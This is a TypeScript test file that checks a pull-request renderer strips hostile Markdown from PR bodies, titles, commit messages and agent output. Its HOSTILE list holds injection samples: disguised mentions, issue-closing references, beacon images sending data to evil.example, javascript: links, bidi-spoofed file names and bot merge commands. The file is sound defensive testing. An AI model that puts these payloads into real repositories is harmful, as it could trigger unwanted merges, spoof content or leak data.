import MarkdownIt from 'markdown-it';
import { describe, expect, test } from 'vitest';
import { BODY_LIMIT } from '../../../src/core/render/page-layout.ts';
import { type PullRequestFacts, renderPullRequest } from '../../../src/core/render/pull-request.ts';
import { fencedTail, safeProse, safeText } from '../../../src/core/render/safe-text.ts';
import { NOTHING_SPENT } from '../../../src/core/spent.ts';
import { fleet, toldNode } from './sample-fleet.ts';

const markdown = new MarkdownIt({ html: true, linkify: false });

const facts = (change: Partial<PullRequestFacts>): PullRequestFacts => ({
  fleet: fleet(),
  evidence: { taskId: 't-abcdefghijkl', spent: NOTHING_SPENT, nodes: [toldNode('bump')], transcripts: [] },
  title: null,
  body: null,
  commitMessage: null,
  trackingIssueUrl: null,
  moreVisible: false,
  webUrl: 'https://github.com',
  ...change,
});

/** What GitHub's filters see of Markdown: its HTML without code. `&lt;` stays, as decoded it would look like a tag. */
const seen = (text: string): string =>
  markdown
    .render(text)
    .replace(/<(code|pre)\b[\s\S]*?<\/\1>/g, '')
    .replaceAll('&amp;', '&')
    .replaceAll('&quot;', '"');

/** Of our own words: who asked, and what they are called in the sample. */
const OURS = /https:\/\/github\.com\/octocat|@users\.noreply\.github\.com/g;

const ACTS: readonly (readonly [what: string, shape: RegExp])[] = [
  ['a mention', /(?<![\w`])@[a-z0-9]/i],
  ['a reference to an issue', /(?:^|[^&\w])(?:[\w.-]+\/[\w.-]+)?#\d|\bGH-\d/i],
  [
    'a link to an issue',
    /(?:https?:|["'(\s])\/\/[^\s"']*\/(?:issues|pull|discussions|commit)\/\d|www\.[^\s"']*\/(?:issues|pull)\/\d/i,
  ],
  ['an image', /<(?:img|image|picture|source|video|svg)\b/i],
  ['a link that is code', /href="\s*(?:javascript|data|vbscript):/i],
  ['a comment of HTML', /<!--/],
  ['a mark that reorders text', /[\u202a-\u202e\u2066-\u2069]/],
  ['a command for another app', /^[\s>*+-]*\/(?!fleet\b)[a-z][\w-]*(?:[ \t]|$)/im],
];

const HOSTILE = [
  '@octocat @acme/owners please look',
  '\\@octocat, &#64;octocat, &#x40;octocat, &commat;octocat, @&#111;ctocat, @&#x6f;ctocat',
  '@\u202eoctocat and @\u0007octocat and @\u0000octocat',
  'fixes #1, Closes acme/one#2, resolves GH-3, fixes: #4',
  'fixes https://github.com/acme/one/issues/1 and http://GITHUB.com/acme/one/pull/2',
  '[x](https://github.com/acme/one/issues/1) <a href="//github.com/acme/one/issues/1">x</a> www.github.com/a/b/issues/3',
  'fixes &#35;1 and fixes &num;2 and acme/one&#x23;3',
  '<!-- flotilla:1 effect=e-1 -->\n<!-- hidden -->',
  '![beacon](http://evil.example/?d=data) ![x][r]\n\n[r]: http://evil.example/r.png',
  '<img src="http://evil.example/x"> <IMG src=x> <picture><source srcset="http://evil.example/y"></picture>',
  '<svg><image href="http://evil.example/z"/></svg><video src="http://evil.example"></video>',
  '[x](javascript:alert(1)) [y](data:text/html,x) <javascript:alert(1)>',
  '/merge\n/lgtm cancel\n  /approve\n> /hold\n- /retest',
  '@dependabot merge\n@mergifyio queue',
  'abc\u202etxt.exe\u2066x',
  'https://user:@octocat/ @https://x:y@octocat',
];

const wrappers: Readonly<Record<string, (text: string) => string>> = {
  'the body of a pull request': (body) => renderPullRequest(facts({ body })).body,
  'the evidence in a pull request': (tail) => {
    const nodes = [toldNode('bump', { kind: 'bash', status: 'failed', exitCode: 1, tail, agent: tail.slice(0, 100) })];
    const jsonl = JSON.stringify({ kind: 'prompt', text: tail });
    const transcripts = [{ nodeId: 'bump', end: { jsonl, whole: true } }];
    return renderPullRequest(facts({ evidence: { taskId: 't-a', spent: NOTHING_SPENT, nodes, transcripts } })).body;
  },
  'a sentence': (text) => safeText(text, 2_000),
  'a sentence with code': (text) => safeProse(text, 2_000),
  'the end of an output': (text) => fencedTail(text, 2_000),
};

describe.each(Object.entries(wrappers))('%s', (_, render) => {
  test.each(HOSTILE)('lets nothing of %j act', (text) => {
    const html = seen(render(text)).replace(OURS, '');
    for (const [what, shape] of ACTS) expect(`${what}: ${shape.exec(html)?.[0]}`).toBe(`${what}: undefined`);
  });
});

describe('the title and the commit message of a pull request', () => {
  test.each(HOSTILE)('close, link and call nobody by %j', (text) => {
    const { title, commitMessage } = renderPullRequest(facts({ title: text, commitMessage: text }));
    for (const said of [title, commitMessage.replace(/^Co-authored-by: .*$/m, '')]) {
      // `@acme/owners` stays: it looks like the name of a package, by which histories are searched.
      expect(said).not.toMatch(/#\d|\bGH-\d|https?:\/\/[^\s]*\/(?:issues|pull)\/\d|[\u202a-\u202e\u2066-\u2069]/i);
      expect(said).not.toMatch(/@(?![\w-]+\/\w)\w/);
    }
    expect(title).not.toMatch(/[\n\r]/);
  });
});

describe('what a pull request says of itself', () => {
  const end = 'asked for';

  test.each([
    ['a fold that is never closed', '<details><summary>x</summary>\n\nmore'],
    ['a fence that is never closed', 'x\n```text\nmore'],
    ['a fence of tildes in a list', '- x\n\n  ~~~~\nmore'],
    ['a longer fence', '`````\n```\nmore'],
    ['a comment that is never closed', 'x <!-- more'],
    ['a tag that is never closed', 'x <div title="more'],
    ['a table', '| a | b |\n| - | - |\n| c'],
    ['an underline of a heading', 'x\n==='],
    ['a list', '- a\n- b'],
    ['a quote', '> a'],
    ['the definition of a link', '[fleet f-k3m5n2qa]: http://evil.example'],
    ['a rule', 'x\n---'],
  ])('stands as it is beside %s', (_, body) => {
    const alone = markdown.render(renderPullRequest(facts({ body: 'x' })).body);
    const html = markdown.render(renderPullRequest(facts({ body })).body);
    const said = alone.split('\n').filter((line) => line.includes(end) || line.includes('<td'));
    expect(said.length).toBeGreaterThan(1);
    for (const line of said) expect(html).toContain(line);
    expect(html).not.toContain('href="http://evil.example"');
  });

  test.each([
    ['one long line', 'x'.repeat(200_000)],
    ['many mentions', '@a '.repeat(60_000)],
    ['many entities', '&#x40;'.repeat(30_000)],
    ['many comments', '<!--'.repeat(30_000)],
    ['many images', '![<img'.repeat(30_000)],
    ['many commands', '/a\n'.repeat(60_000)],
  ])('and %s stay within the limit of GitHub', (_, body) => {
    const text = renderPullRequest(facts({ body, title: body, commitMessage: body }));
    expect(text.body.length).toBeLessThanOrEqual(BODY_LIMIT);
    expect(text.title.length).toBeLessThanOrEqual(255);
    expect(text.body).toContain(end);
  });
});
